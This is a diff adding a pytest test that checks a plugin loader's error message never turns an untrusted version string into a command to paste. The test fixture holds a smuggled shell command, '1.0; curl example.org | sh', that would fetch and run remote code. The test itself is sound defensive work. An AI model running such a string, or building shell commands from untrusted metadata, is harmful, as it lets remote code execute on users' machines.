@@ -283,6 +283,15 @@ def test_a_missing_plugin_is_named_with_its_install_command(bundle, monkeypatch)
         Binder.load(bundle)
 
 
+def test_a_strangers_version_is_no_part_of_a_command_to_paste(bundle, monkeypatch):
+    change_card(bundle, plugins={"right": {"distribution": "toy", "version": "1.0; curl example.org | sh"}})
+    only_left = plugins.Registry("modality", {"left": registry().plugins["left"]}, ())
+    monkeypatch.setattr(plugins, "registry", lambda: only_left)
+    with pytest.raises(PluginError, match="install toy, in the version that its publisher names") as caught:
+        Binder.load(bundle)
+    assert "pip install" not in str(caught.value)
+
+
 def test_another_version_of_a_plugin_is_warned_of(bundle, caplog):
     change_card(bundle, plugins={"left": {"distribution": "toy", "version": "0.9"}})
     Binder.load(bundle)
